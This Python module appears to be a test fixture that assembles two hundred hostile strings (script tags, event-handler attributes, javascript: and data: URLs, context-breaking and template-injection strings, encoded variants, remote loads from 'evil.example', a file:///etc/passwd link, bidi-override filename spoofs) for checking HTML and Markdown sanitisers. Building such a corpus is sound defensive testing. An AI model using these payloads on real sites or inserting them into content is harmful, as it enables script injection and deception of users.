# ruff: noqa: E501
"""Two hundred hostile texts: what runs, loads, links or misleads where it is taken for HTML or Markdown."""

_RUN = "window.hit=1"
_FAR = "http://evil.example/x"

_ELEMENTS = [
    f"<script>{_RUN}</script>", f"<script src={_FAR}></script>", f"<ScRiPt >{_RUN}</sCrIpT>", f"<<script>{_RUN}//<</script>",
    f"<img src=x onerror={_RUN}>", f"<img src={_FAR}>", f"<img src={_FAR} onload={_RUN}>", f"<img/src=x/onerror={_RUN}>",
    f"<IMG SRC=javascript:{_RUN}>", f"<img srcset='{_FAR} 1x'>", f"<picture><source srcset={_FAR}><img></picture>",
    f"<svg onload={_RUN}>", f"<svg/onload={_RUN}>", f"<svg><script>{_RUN}</script></svg>", f"<svg><image href={_FAR}></svg>",
    f"<svg><use href='{_FAR}#x'></svg>", f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>", f"<svg><foreignObject><iframe src={_FAR}></svg>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>", f"<math href='javascript:{_RUN}'>x</math>",
    f"<iframe src={_FAR}></iframe>", f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>", f"<iframe src=javascript:{_RUN}>",
    f"<object data={_FAR}></object>", f"<embed src={_FAR}>", f"<link rel=stylesheet href={_FAR}>", f"<base href={_FAR}>",
    f"<meta http-equiv=refresh content='0;url={_FAR}'>", f"<style>@import '{_FAR}';</style>", f"<style>*{{background:url({_FAR})}}</style>",
    f"<div style='background:url({_FAR})'>x</div>", f"<p style=\"background-image:url('{_FAR}')\">x</p>",
    f"<video src={_FAR} autoplay></video>", f"<video><source onerror={_RUN}></video>", f"<audio src={_FAR} autoplay></audio>",
    f"<video poster={_FAR}></video>", f"<body onload={_RUN}>", f"<body background={_FAR}>", f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>", f"<textarea autofocus onfocus={_RUN}>", f"<details open ontoggle={_RUN}><summary>x",
    f"<marquee onstart={_RUN}>x</marquee>", f"<form action={_FAR}><button>x</button></form>", f"<form><button formaction={_FAR}>x",
    f"<a href=javascript:{_RUN}>x</a>", f"<a href={_FAR} ping={_FAR}>x</a>", f"<table background={_FAR}><tr><td>x</table>",
    f"<keygen autofocus onfocus={_RUN}>", f"<isindex action=javascript:{_RUN}>", f"<frameset onload={_RUN}>", f"<x onclick={_RUN}>x</x>",
    f"<template><script>{_RUN}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<xmp><img src=x onerror={_RUN}></xmp>", f"<!--<img src=x onerror={_RUN}>-->", f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<dialog open><img src=x onerror={_RUN}></dialog>", f"<slot onslotchange={_RUN}>", f"<portal src={_FAR}>",
]  # fmt: skip
_BREAKS = [
    f"\"><script>{_RUN}</script>", f"'><img src=x onerror={_RUN}>", f"</p><img src=x onerror={_RUN}>", f"`-{_RUN}-`",
    f"\" onmouseover=\"{_RUN}", f"' autofocus onfocus='{_RUN}", f"</textarea><svg onload={_RUN}>", f"</style><svg onload={_RUN}>",
    f"</script><script>{_RUN}</script>", f"-->{_RUN}<script>{_RUN}</script>", f"]]><svg onload={_RUN}>", f"${{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}", f"<%= {_RUN} %>", f"{{{{#with this}}}}{{{{lookup . '{_RUN}'}}}}{{{{/with}}}}", f"\\\"-{_RUN}-\\\"",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;", f"&#60;img src=x onerror={_RUN}&#62;", f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\u003cimg src=x onerror={_RUN}\\u003e", f"＜script＞{_RUN}＜/script＞", f"<\x00script>{_RUN}</script>".replace("\x00", "\ufffd"),
]  # fmt: skip
_ADDRESSES = [
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"java\tscript:{_RUN}", f" javascript:{_RUN}", f"javascript&colon;{_RUN}", f"vbscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=", f"data:image/svg+xml,<svg onload={_RUN}>",
    _FAR, "//evil.example/x", "https://user@evil.example/x", "file:///etc/passwd", "ftp://evil.example/x", f"blob:{_FAR}", "/\\evil.example",
    "http://127.0.0.1:1@evil.example/", "#\" onmouseover=\"window.hit=1", "mailto:a@evil.example", "tel:1", f"view-source:{_FAR}",
]  # fmt: skip
_FORMS = ["![x]({})", "[x]({})", "<{}>", "[x]: {}\n\n[x] ![x]", "[![x]({0})]({0})"]
_TURNED = [
    "\u202egnp.exe", "a\u202eb\u202cc", "\u2066invoice\u2069fdp.exe", "\u200f\u200etext", "\u061cx", "\u2067\u2067\u2067nested",
    "Reuters\u202e)1202 ,yaM( dias", "\u202a\u202b\u202d<b>x</b>", "[1\u202e]", "\u202d[1]",
]  # fmt: skip
_MARKS = [
    "[1](javascript:window.hit=1)", "[1]: http://evil.example/x", "[^1]: <img src=x onerror=window.hit=1>", "[[1]](http://evil.example)",
    "```mermaid\ngraph TD; A-->B; click A \"javascript:window.hit=1\"\n```", "```html\n<script>window.hit=1</script>\n```",
    "$$\\href{javascript:window.hit=1}{x}$$", "\\(\\includegraphics{http://evil.example/x}\\)", "| <img src=x onerror=window.hit=1> |\n|-|\n| x |",
    "<a class=marker href=#source-1-1 onclick=window.hit=1>1</a>", "<button data-act=remove data-article=a1>x</button>",
    "<form data-act=edit data-article=a1><input name=title></form>",
]  # fmt: skip

_LINKS = [form.format(address) for address in _ADDRESSES for form in _FORMS]
TEXTS = [*_ELEMENTS, *_BREAKS, *_TURNED, *_MARKS, *_LINKS][:200]
